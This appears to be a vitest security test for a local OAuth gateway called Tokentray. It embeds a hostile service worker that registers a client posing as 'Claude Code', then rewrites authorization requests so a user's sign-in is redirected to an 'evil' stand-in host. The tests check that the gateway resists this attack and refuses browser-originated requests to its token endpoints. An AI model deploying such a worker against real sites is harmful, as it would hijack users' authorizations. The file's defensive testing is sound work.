// A service worker that another program planted on the gateway's port while Tokentray was away, in a real Chromium.
// The attack: the worker registers a client by itself and turns a person's sign-in into one of its own.
import { once } from 'node:events'
import { createServer } from 'node:http'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { systemClock } from '../../../app/base/clock.ts'
import { startGateway } from '../../../app/gateway/gateway.ts'
import { createSetting } from '../../core.fixture.ts'
import { openChromium, reason } from '../../renderer/chromium.ts'
import { connectChromium } from '../../renderer/sharedChromium.ts'
import { freePort } from '../../support/freePort.ts'
import { ask } from '../gateway.fixture.ts'
import { registerClient } from './client.ts'

if (reason) console.log(reason)

const worker = `
  addEventListener('install', () => skipWaiting())
  addEventListener('activate', (event) => event.waitUntil(clients.claim()))
  const evil = 'http://127.0.0.1:1/evil'
  async function answer(request) {
    const { searchParams } = new URL(request.url)
    const body = JSON.stringify({ client_name: 'Claude Code', redirect_uris: [evil] })
    const headers = { 'content-type': 'application/json' }
    const { client_id } = await (await fetch('/register', { method: 'POST', headers, body })).json()
    if (!client_id) return fetch(request)
    searchParams.set('client_id', client_id)
    searchParams.set('redirect_uri', evil)
    return Response.redirect('/authorize?' + searchParams)
  }
  addEventListener('fetch', (event) => {
    const { pathname, searchParams } = new URL(event.request.url)
    if (event.request.mode === 'navigate' && pathname === '/authorize' && searchParams.get('redirect_uri') !== evil)
      event.respondWith(answer(event.request))
  })`

describe.skipIf(reason !== null)('a worker planted on the gateway’s origin', () => {
  let chromium: Awaited<ReturnType<typeof openChromium>>
  beforeAll(async () => {
    chromium = await openChromium(connectChromium())
  })
  afterAll(() => chromium?.close())

  test('registers nothing, and is gone once a page of the gateway was shown', async () => {
    const port = await freePort()
    const planter = createServer((request, response) => {
      const isWorker = request.url === '/sw.js'
      response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html').end(isWorker ? worker : 'Hello')
    })
    await once(planter.listen(port, '127.0.0.1'), 'listening')
    const origin = `http://127.0.0.1:${port}`
    const page = await chromium.page(origin)
    await page.evaluate(
      `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => {})`
    )
    planter.closeAllConnections()
    planter.close()
    await once(planter, 'close')

    const s = await createSetting()
    await s.signIn()
    const gateway = await startGateway({ ...s.core.gateway, clock: systemClock(), port, publicUrl: null })
    onTestFinished(async () => {
      await chromium.closePages()
      await gateway.close()
      await s.stop()
    })
    const { client_id } = await registerClient(origin, { client_name: 'Honest' })
    const query = new URLSearchParams({
      client_id,
      redirect_uri: 'http://127.0.0.1:3999/callback',
      response_type: 'code',
      code_challenge: 'x'.repeat(43),
      code_challenge_method: 'S256'
    })
    await page.goto(`${origin}/authorize?${query}`)
    await page.getByRole('heading').waitFor()
    expect(s.core.snapshot().clients.pending.filter(({ name }) => name === 'Claude Code')).toEqual([])
    const workers = () => page.evaluate('navigator.serviceWorker.getRegistrations().then(({ length }) => length)')
    await expect.poll(workers).toBe(0)
    await page.goto(`${origin}/authorize?${query}`)
    await page.getByRole('heading', { name: 'Waiting for your decision' }).waitFor()
    expect(s.core.snapshot().clients.pending).toMatchObject([{ name: 'Honest' }])
  })
})

test.each(['register', 'token', 'revoke'])(
  'what a page can send is refused at /%s, and what programs send is not',
  async (path) => {
    const s = await createSetting()
    const gateway = await startGateway({ ...s.core.gateway, clock: systemClock(), port: 0, publicUrl: null })
    onTestFinished(async () => {
      await gateway.close()
      await s.stop()
    })
    const status = async (headers: Record<string, string>) =>
      (await ask({ gateway }, `/${path}`, { method: 'POST', key: null, headers })).status
    for (const headers of [
      { 'sec-fetch-site': 'same-origin' },
      { 'sec-fetch-site': 'same-site' },
      { 'sec-fetch-site': 'cross-site' },
      { origin: gateway.address }
    ] as Record<string, string>[])
      expect(await status(headers)).toBe(403)
    for (const headers of [{}, { 'sec-fetch-mode': 'cors' }, { 'sec-fetch-site': 'none' }] as Record<string, string>[])
      expect(await status(headers)).toBe(400)
  }
)
